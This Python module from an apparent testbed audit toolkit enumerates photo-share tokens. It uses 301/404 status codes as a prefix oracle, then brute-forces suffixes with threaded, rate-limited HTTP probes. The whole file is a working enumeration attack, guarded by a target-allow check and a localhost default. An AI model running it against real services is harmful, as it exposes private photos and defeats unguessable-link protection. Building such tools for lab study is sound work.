"""Two-phase photo-token mining: prefix sweep via the status oracle, then suffix search."""

from __future__ import annotations

import json
import logging
import math
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from toyaudit import ToyAuditError
from toyaudit.httpclient import RateLimiter, ensure_target_allowed, make_client, send
from toyaudit.mine.permutation import IndexPermutation, derive_key
from toyaudit.mine.tokenspace import TokenSpace

log = logging.getLogger(__name__)


class OracleAmbiguous(ToyAuditError):
    pass


class WorkerStream:
    """Suffixes at permutation positions ``worker, worker + workers, ...``."""

    def __init__(self, space: TokenSpace, perm: IndexPermutation, worker: int, workers: int):
        self.space = space
        self.perm = perm
        self.worker = worker
        self.workers = workers

    def __len__(self) -> int:
        n = self.perm.n
        return max(0, (n - self.worker + self.workers - 1) // self.workers)

    def __iter__(self):
        for position in range(self.worker, self.perm.n, self.workers):
            yield self.space.suffix_at(self.perm(position))

    def take(self, count: int | None):
        for i, suffix in enumerate(self):
            if count is not None and i >= count:
                return
            yield suffix


def partition_tokenspace(space: TokenSpace, prefix: str, workers: int, seed: int) -> list[WorkerStream]:
    if workers < 1:
        raise ValueError("workers must be >= 1")
    perm = IndexPermutation(space.suffix_count, derive_key(seed, prefix))
    return [WorkerStream(space, perm, i, workers) for i in range(workers)]


def split_budget(budget: int, workers: int) -> list[int]:
    """Per-worker share such that the probed positions are exactly 0..budget-1."""
    base, extra = divmod(budget, workers)
    return [base + (1 if i < extra else 0) for i in range(workers)]


@dataclass
class MinerConfig:
    target: str = "http://127.0.0.1:8080"
    space: TokenSpace = field(default_factory=TokenSpace)
    workers: int = 1
    seed: int = 0
    suffix_budget: int | None = None  # None = unlimited
    target_fraction: float = 1.0
    request_delay: float = 0.05  # seconds, enforced across all workers
    known_planted_count: int | None = None
    oracle_valid_status: int = 301
    oracle_invalid_status: int = 404
    prefix_path: str = "/api/photo/{prefix}"
    token_path: str = "/api/photo/{prefix}/{token}"
    acknowledge_target: bool = False

    def __post_init__(self):
        if self.workers < 1:
            raise ValueError("workers must be >= 1")
        if self.suffix_budget is not None and self.suffix_budget < 1:
            raise ValueError("suffix_budget must be >= 1 when bounded")
        if not 0 < self.target_fraction <= 1:
            raise ValueError("target_fraction must be in (0, 1]")
        if self.target_fraction < 1 and not self.known_planted_count:
            raise ValueError("fraction mode needs known_planted_count (testbed targets only)")

    @property
    def stop_after(self) -> int | None:
        if self.target_fraction < 1:
            return math.ceil(self.target_fraction * self.known_planted_count)
        return None


@dataclass
class MiningResult:
    valid_prefixes: set[str] = field(default_factory=set)
    recovered_tokens: set[str] = field(default_factory=set)
    prefix_probes: int = 0
    suffix_probes: int = 0
    elapsed: float = 0.0
    status: str = "completed"

    @property
    def probes_sent(self) -> int:
        return self.prefix_probes + self.suffix_probes

    @property
    def per_phase_counts(self) -> tuple[int, int]:
        return self.prefix_probes, self.suffix_probes

    def to_dict(self) -> dict:
        return {
            "valid_prefixes": sorted(self.valid_prefixes),
            "recovered_tokens": sorted(self.recovered_tokens),
            "probes_sent": self.probes_sent,
            "per_phase_counts": list(self.per_phase_counts),
            "elapsed": round(self.elapsed, 6),
            "status": self.status,
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True)


def plan(config: MinerConfig) -> dict:
    """Probe counts the attack would issue, without touching the network."""
    space = config.space
    per_prefix = space.suffix_count if config.suffix_budget is None else min(
        config.suffix_budget, space.suffix_count)
    return {
        "prefix_probes": space.prefix_count,
        "suffix_probes_per_valid_prefix": per_prefix,
        "token_universe": space.token_count,
    }


class _Session:
    """Counters, rate limiter and per-thread HTTP clients shared by the workers."""

    def __init__(self, config: MinerConfig):
        ensure_target_allowed(config.target, config.acknowledge_target)
        self.config = config
        self.limiter = RateLimiter(config.request_delay)
        self.lock = threading.Lock()
        self.sent = 0
        self._local = threading.local()
        self._clients = []

    def get(self, path: str) -> int:
        client = getattr(self._local, "client", None)
        if client is None:
            client = self._local.client = make_client(self.config.target)
            with self.lock:
                self._clients.append(client)
        self.limiter.wait()
        with self.lock:
            self.sent += 1
        return send(client, "GET", path).status_code

    def close(self):
        for client in self._clients:
            client.close()


def _run_parallel(workers: int, fn, items):
    if workers == 1:
        return [fn(item) for item in items]
    with ThreadPoolExecutor(max_workers=workers) as pool:
        return list(pool.map(fn, items))


def _sweep(session: _Session) -> set[str]:
    config = session.config
    prefixes = list(config.space.prefixes())
    shards = [prefixes[i::config.workers] for i in range(config.workers)]

    def work(shard):
        valid = set()
        for prefix in shard:
            status = session.get(config.prefix_path.format(prefix=prefix))
            if status == config.oracle_valid_status:
                valid.add(prefix)
            elif status != config.oracle_invalid_status:
                raise OracleAmbiguous(f"prefix {prefix!r} answered {status}; expected "
                                      f"{config.oracle_valid_status} or {config.oracle_invalid_status}")
        return valid

    return set().union(*_run_parallel(config.workers, work, shards))


def sweep_prefixes(config: MinerConfig) -> set[str]:
    """Probe every prefix once and return those the oracle marks valid."""
    session = _Session(config)
    try:
        return _sweep(session)
    finally:
        session.close()


def _mine(session: _Session, prefixes: set[str], result: MiningResult):
    config = session.config
    stop_after = config.stop_after
    stop = threading.Event()
    budgets = (split_budget(config.suffix_budget, config.workers)
               if config.suffix_budget is not None else [None] * config.workers)

    def work(args):
        prefix, stream, budget = args
        for suffix in stream.take(budget):
            if stop.is_set():
                return
            token = prefix + suffix
            status = session.get(config.token_path.format(prefix=prefix, token=token))
            if status == 200:
                with session.lock:
                    result.recovered_tokens.add(token)
                    if stop_after is not None and len(result.recovered_tokens) >= stop_after:
                        stop.set()

    for prefix in sorted(prefixes):
        if stop.is_set():
            break
        streams = partition_tokenspace(config.space, prefix, config.workers, config.seed)
        _run_parallel(config.workers, work, list(zip([prefix] * config.workers, streams, budgets)))
    if stop.is_set():
        result.status = "target_fraction_reached"
    elif config.suffix_budget is not None and config.suffix_budget < config.space.suffix_count:
        result.status = "budget_exhausted"


def mine_suffixes(config: MinerConfig, prefixes: set[str]) -> MiningResult:
    """Search suffixes under each valid prefix; a 200 on the full-token URL is a hit."""
    if not prefixes:
        raise ValueError("no prefixes to mine")
    result = MiningResult(valid_prefixes=set(prefixes))
    session = _Session(config)
    start = time.monotonic()
    try:
        _mine(session, prefixes, result)
    finally:
        session.close()
    result.suffix_probes = session.sent
    result.elapsed = time.monotonic() - start
    return result


def run_attack(config: MinerConfig) -> MiningResult:
    """Full attack: prefix sweep, then suffix search under every valid prefix."""
    session = _Session(config)
    start = time.monotonic()
    result = MiningResult()
    try:
        result.valid_prefixes = _sweep(session)
        result.prefix_probes = session.sent
        log.info("prefix sweep: %d valid of %d", len(result.valid_prefixes), result.prefix_probes)
        if result.valid_prefixes:
            _mine(session, result.valid_prefixes, result)
    finally:
        session.close()
    result.suffix_probes = session.sent - result.prefix_probes
    result.elapsed = time.monotonic() - start
    return result
